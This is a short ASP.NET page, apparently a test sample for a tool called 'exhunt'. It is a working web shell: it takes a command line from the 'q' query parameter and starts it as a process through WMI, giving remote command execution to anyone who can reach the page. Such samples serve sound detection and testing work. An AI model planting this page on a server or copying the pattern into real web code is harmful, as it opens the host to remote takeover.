<%@ Page Language="C#" %>
<%@ Import Namespace="System.Management" %>
<script runat="server">
/* written for exhunt's tests: a process started through WMI, its
 * command line from the query string */
void Page_Load(object s, EventArgs e)
{
	var mc = new ManagementClass("Win32_Process");
	var r = mc.InvokeMethod("Create", new object[] { Request.QueryString["q"] });
	Response.Write(r);
}
</script>
